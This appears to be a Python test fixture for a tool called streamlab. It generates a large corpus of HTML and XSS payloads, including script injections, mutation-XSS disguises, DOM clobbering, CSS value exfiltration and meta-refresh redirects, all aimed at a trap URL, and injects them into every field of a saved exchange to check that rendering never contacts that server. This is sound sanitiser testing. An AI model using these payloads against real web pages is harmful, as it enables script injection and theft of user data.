"""Bytes that try to run a script, to send a request or to open another page.

`{T}` is the URL of a server that must not be connected to. `{J}` is a script that tries everything a
script can do.
"""

from __future__ import annotations

import json
from itertools import product

from streamlab.harness.exchange import Exchange

SCRIPT = (
    "fetch('{T}/fetch');new Image().src='{T}/image';navigator.sendBeacon('{T}/beacon');"
    "document.title='PWNED';top.PWNED=1;window.open('{T}/open');location='{T}/location'"
)

LOADS = (
    "<img src={T}/a>",
    "<img srcset='{T}/a 1x, {T}/b 2x'>",
    "<img src=data:, srcset={T}/a>",
    "<image src={T}/a></image>",
    "<input type=image src={T}/a>",
    "<picture><source srcset={T}/a><img src=data:,></picture>",
    "<video src={T}/a autoplay></video>",
    "<video poster={T}/a></video>",
    "<video><source src={T}/a></video>",
    "<video><track default src={T}/a></video>",
    "<audio src={T}/a preload=auto autoplay></audio>",
    "<iframe src={T}/a></iframe>",
    "<iframe srcdoc='<img src={T}/a><script>{J}</script>'></iframe>",
    "<frameset><frame src={T}/a></frameset>",
    "<object data={T}/a></object>",
    "<object data={T}/a type=text/html><param name=src value={T}/b></object>",
    "<embed src={T}/a>",
    "<embed src={T}/a type=image/svg+xml>",
    "<applet code=x archive={T}/a></applet>",
    "<portal src={T}/a></portal>",
    "<fencedframe src={T}/a></fencedframe>",
    "<link rel=stylesheet href={T}/a>",
    "<link rel=preconnect href={T}>",
    "<link rel=dns-prefetch href={T}>",
    "<link rel=prefetch href={T}/a>",
    "<link rel=prerender href={T}/a>",
    "<link rel=preload as=image href={T}/a>",
    "<link rel=modulepreload href={T}/a>",
    "<link rel=icon href={T}/a>",
    "<link rel=manifest href={T}/a>",
    "<link rel='import' href={T}/a>",
    "<meta http-equiv=refresh content='0;url={T}/a'>",
    "<meta http-equiv=refresh content='0;{T}/a'>",
    "<meta http-equiv='ReFrEsH' content=' 0 ; URL=\"{T}/a\"'>",
    "<meta http-equiv=Link content='<{T}/a>; rel=prefetch'>",
    "<meta http-equiv=Content-Security-Policy content='report-uri {T}/a'>",
    "<base href={T}/><img src=a><a href=b>x</a>",
    "<base target=_top href={T}/><form><button>x</button></form>",
    "<body background={T}/a>",
    "<table background={T}/a><td background={T}/b>x</table>",
    "<html manifest={T}/a>",
    "<bgsound src={T}/a>",
    "<style>@import '{T}/a';</style>",
    "<style>@import url({T}/a);</style>",
    "<style>*{{background:url({T}/a)}}</style>x",
    "<style>@font-face{{font-family:f;src:url({T}/a)}}*{{font-family:f}}</style>x",
    "<style>p{{cursor:url({T}/a),auto}}</style><p>x",
    "<style>p{{list-style:url({T}/a);display:list-item}}</style><p>x",
    "<style>p{{border-image:url({T}/a)}}</style><p>x",
    "<style>p::before{{content:url({T}/a)}}</style><p>x",
    "<style>p{{background:image-set('{T}/a' 1x)}}</style><p>x",
    "<style>p{{mask:url({T}/a#m);filter:url({T}/b#f);clip-path:url({T}/c#p)}}</style><p>x",
    "<style>p{{shape-outside:url({T}/a);float:left}}</style><p>x",
    "<style>:root{{--u:url({T}/a)}}p{{background:var(--u)}}</style><p>x",
    "<style>input[value^=s]{{background:url({T}/k)}}</style><input value=secret>",
    "<p style='background:url({T}/a)'>x",
    "<p style='background:\\75rl({T}/a)'>x",
    "<div style=\"width:9px;height:9px;background:url('{T}/a')\"></div>",
    "<svg><image href={T}/a width=9 height=9 /></svg>",
    "<svg><image xlink:href={T}/a width=9 height=9 /></svg>",
    "<svg><use href={T}/a#x /></svg>",
    "<svg><feImage href={T}/a /></svg>",
    "<svg><filter id=f><feImage href={T}/a /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    "<svg><rect width=9 height=9 fill='url({T}/a#g)' /></svg>",
    "<svg><style>@import '{T}/a';</style></svg>",
    "<svg><style>&lt;/style>&lt;img src={T}/a></style></svg>",
    "<svg><foreignObject><img src={T}/a></foreignObject></svg>",
    "<svg><foreignObject><iframe src={T}/a></iframe></foreignObject></svg>",
    "<svg><a href=#><set attributeName=href to={T}/a begin=0s /><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values={T}/a /><text y=9>x</text></a></svg>",
    "<svg><image><set attributeName=href to={T}/a begin=0s /></image></svg>",
    "<math><mtext href={T}/a>x</mtext></math>",
    "<div><template shadowrootmode=open><img src={T}/a><a href={T}/b>x</a></template></div>",
    "<div><template shadowroot=open><script>{J}</script></template></div>",
    "<noscript><img src={T}/a></noscript>",
    "<noscript><meta http-equiv=refresh content='0;url={T}/a'></noscript>",
    '<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{T}/a"]}}]}}</script>',
    '<script type=importmap>{{"imports":{{"a":"{T}/a"}}}}</script>',
    "<img src='{T}/a",
    "<img src={T}/a ",
    "<img/src={T}/a>",
    "<img\tsrc\n=\r{T}/a>",
    "<IMG SRC={T}/a>",
    "<img src=x src={T}/a>",
    "<img src=&#104;{T}/a><img src=//{H}/a>",
    "<img src=//{H}/a>",
    "<img lowsrc={T}/a dynsrc={T}/b longdesc={T}/c src=data:,>",
    "<isindex action={T}/a type=image src={T}/b>",
    "<xml src={T}/a></xml>",
    "<layer src={T}/a></layer>",
)

SCRIPTS = (
    "<script>{J}</script>",
    "<script src={T}/a></script>",
    "<script type=module>import '{T}/a';{J}</script>",
    "<ScRiPt>{J}</sCrIpT>",
    "<script/x>{J}</script>",
    "<script\n>{J}</script\n>",
    "<<script>{J}//<</script>",
    "</title></textarea></style></script><script>{J}</script>",
    '<img src=x onerror="{J}">',
    '<img src=data:, onload="{J}" onerror="{J}">',
    '<body onload="{J}">',
    '<body onpageshow="{J}" onfocus="{J}">',
    '<input autofocus onfocus="{J}">',
    '<details open ontoggle="{J}"><summary>x</summary></details>',
    '<svg onload="{J}">',
    "<svg><script>{J}</script></svg>",
    "<svg><script href={T}/a /></svg>",
    '<svg><animate onbegin="{J}" attributeName=x dur=1s />',
    '<svg><set onbegin="{J}" attributeName=x />',
    '<style onload="{J}"></style>',
    '<style>@keyframes k{{}}p{{animation:k 1s}}</style><p onanimationstart="{J}">x',
    '<marquee onstart="{J}">x</marquee>',
    '<video onerror="{J}"><source onerror="{J}" src=x></video>',
    '<iframe src="javascript:{J}"></iframe>',
    '<iframe onload="{J}"></iframe>',
    '<object data="javascript:{J}"></object>',
    '<embed src="javascript:{J}">',
    '<math><mi xlink:href="javascript:{J}">x</mi></math>',
    '<p oncontentvisibilityautostatechange="{J}" style=content-visibility:auto>x',
    '<dialog open oncancel="{J}" onbeforetoggle="{J}">x</dialog>',
)

# Text that becomes an element only when it is written and parsed again, or that hides a property.
DISGUISES = (
    '<noscript><p title="</noscript><img src={T}/a onerror=&quot;{J}&quot;>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={T}/a&gt;">',
    "<math><mtext><mglyph><svg><mtext><style><path id='</style><img src={T}/a onerror=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src={T}/a>",
    '<svg></p><style><a id="</style><img src={T}/a>">',
    '<svg><p><style><g title="</style><img src={T}/a>">',
    "<math></p><style><!--</style><img src={T}/a>--></style>",
    "<table><caption><svg><title><p><style></svg></title></style><img src={T}/a>",
    "<select><style></select><img src={T}/a></style></select>",
    "<textarea><img title='</textarea><img src={T}/a>'></textarea>",
    '<xmp><p title="</xmp><img src={T}/a>"></xmp>',
    '<noembed><p title="</noembed><img src={T}/a>"></noembed>',
    '<noframes><p title="</noframes><img src={T}/a>"></noframes>',
    "<plaintext><img src={T}/a>",
    "<listing>\n&lt;img src={T}/a&gt;</listing>",
    '<iframe><p title="</iframe><img src={T}/a>"></iframe>',
    "<!--><img src={T}/a>-->",
    "<!--x--!><img src={T}/a>",
    "<![CDATA[<img src={T}/a>]]>",
    "<?xml-stylesheet href={T}/a?><img src={T}/b>",
    "<svg><![CDATA[</svg><img src={T}/a>]]></svg>",
    "<svg><desc><![CDATA[</desc><img src={T}/a>]]></desc></svg>",
    "<template><img src={T}/a></template><a href={T}/b>x</a>",
    (
        "<form><input name=attributes><input name=localName><input name=getAttributeNames>"
        "<input name=remove><a href={T}/a>x</a><img src={T}/b></form>"
    ),
    "<form id=f action={T}/a><input name=removeAttribute><input name=nodeName></form>",
    (
        "<img name=querySelectorAll><img name=querySelector><img name=head><img name=body>"
        "<img name=createElement><img name=documentElement><a href={T}/a>x</a><img src={T}/b>"
    ),
    "<form name=body><input name=firstChild></form><img src={T}/a>",
    "<p id=constructor><p id=prototype><a href={T}/a>x</a>",
    "</head></html><img src={T}/a>",
    "</body></html><meta http-equiv=refresh content='0;url={T}/a'>",
    '<head><meta http-equiv=Content-Security-Policy content="default-src *"></head><img src={T}/a>',
    "<!doctype html><html><head></head><body><img src={T}/a>",
    "<body></body></head><head><img src={T}/a>",
    "<p>" * 600 + "<img src={T}/a>",
    "<svg>" * 300 + "<a href={T}/a>x</a>",
    "<b><a href={T}/a><table><a href={T}/b>x" * 20,
)

CLICKS = (
    "<a href={T}/a>x</a>",
    "<a href={T}/a target=_self>x</a>",
    "<a href={T}/a target=_top>x</a>",
    "<a href={T}/a target=_parent>x</a>",
    "<a href={T}/a target=_blank rel=opener>x</a>",
    "<a href={T}/a target=other>x</a>",
    "<a href=# ping={T}/a>x</a>",
    "<a href={T}/a download>x</a>",
    "<a href=//{H}/a>x</a>",
    "<a HREF={T}/a>x</a>",
    "<a href='&#x0a;{T}/a'>x</a>",
    '<a href="javascript:{J}" target=_self>x</a>',
    '<a href="data:text/html,<script>{J}</script>">x</a>',
    "<a href={T}/a attributionsrc={T}/b>x</a>",
    "<a href={T}/a><p>x<div><b>y</b></div></a>",
    "<base href={T}/><a href=a>x</a>",
    "<base target=_self><a href={T}/a>x</a>",
    "<map name=m><area shape=default href={T}/a></map><img usemap=#m src=data:, width=9 height=9>",
    "<form action={T}/a><button>x</button></form>",
    "<form action={T}/a method=post target=_self><input type=submit></form>",
    "<form><button formaction={T}/a formtarget=_top>x</button></form>",
    "<form id=f></form><button form=f formaction={T}/a>x</button>",
    "<form action={T}/a><input type=image src=data:,></form>",
    '<form action="javascript:{J}"><button>x</button></form>',
    "<form method=dialog action={T}/a><button>x</button></form>",
    "<svg><a href={T}/a><rect width=99 height=99 /></a></svg>",
    "<svg><a xlink:href={T}/a target=_self><text y=20>x</text></a></svg>",
    '<svg><a xlink:href="javascript:{J}"><text y=20>x</text></a></svg>',
    "<math><mrow href={T}/a><mi>x</mi></mrow></math>",
    "<math><a href={T}/a><mi>x</mi></a></math>",
    '<button popovertarget=p>x</button><p id=p popover onbeforetoggle="{J}">y',
    '<button onclick="{J}">x</button>',
    "<label for=k>x</label><a id=k href={T}/a>y</a>",
    "<details><summary><a href={T}/a>x</a></summary></details>",
)

# HTML's white space is smaller than that of JavaScript, so a pattern that looks for the beginning of
# a document can be deceived.
BEGINNINGS = (
    "",
    "\u00a0<!doctype html>",
    "\x0b<!doctype html>",
    "\ufeff<!doctype html>",
    "\u2003<!DOCTYPE html>",
    "\x00<!doctype html>",
    "<!doctype html><p>",
    '<!doctype html SYSTEM "about:legacy-compat"><!-- -->',
    "<!doctype><html><head><title>",
    "x<!doctype html>",
)
WITH_BEGINNINGS = (
    "<img src={T}/a>",
    "<script>{J}</script>",
    "<iframe src={T}/a></iframe>",
    "<meta http-equiv=refresh content='0;url={T}/a'>",
    "<style>@import '{T}/a';</style>",
    "<link rel=preconnect href={T}>",
)


def corpus(trap: str) -> list[str]:
    """Return all payloads, with the URL of the trap in them."""
    host = trap.partition("//")[2]
    begun = ["".join(pair) for pair in product(BEGINNINGS, WITH_BEGINNINGS)]
    whole = [*LOADS, *SCRIPTS, *DISGUISES, *CLICKS, *begun]
    # Instead of braces, because the payloads contain braces.
    return list(
        dict.fromkeys(
            payload.replace("{J}", SCRIPT)
            .replace("{T}", trap)
            .replace("{H}", host)
            .replace("{{", "{")
            .replace("}}", "}")
            for payload in whole
        )
    )


def saved_with(payload, surrounding):
    """Return an exchange in which every text is the payload."""
    document = json.loads(surrounding)
    document["path"] = document["scenario"]["path"] = document["scenario"]["method"] = payload
    document["verdict"] |= {"text": payload, "culprit": payload, "advice": payload}
    document["client"] |= {
        "url": payload,
        "reason": payload,
        "problem": payload,
        "missing": payload,
    }
    one_line = payload.replace("\r", " ").replace("\n", " ")
    document["client"]["headers"] = [[payload, one_line]]
    document["scenario"] |= {
        "server": payload,
        "middleware": [payload],
        "headers": [[payload, payload]],
    }
    streams = ("stdout", "stderr")
    document["output"] = [{"seconds": 0.1, "text": payload, "stream": stream} for stream in streams]
    for lane in document["lanes"]:
        if lane["name"] == "app":
            lane["name"] = payload
    for event in document["events"]:
        event["text"] = payload
    for piece in document["sources"]:
        piece |= {"title": payload, "text": payload, "filename": payload}
    for entry in document["failure"]["traceback"]:
        entry |= {"title": payload, "filename": payload, "name": payload, "code": payload}
    document["failure"] |= {"last": payload, "advice": payload, "raised_by": payload}
    document["unobserved"] = {"client": payload}
    return Exchange.from_json(json.dumps(document))
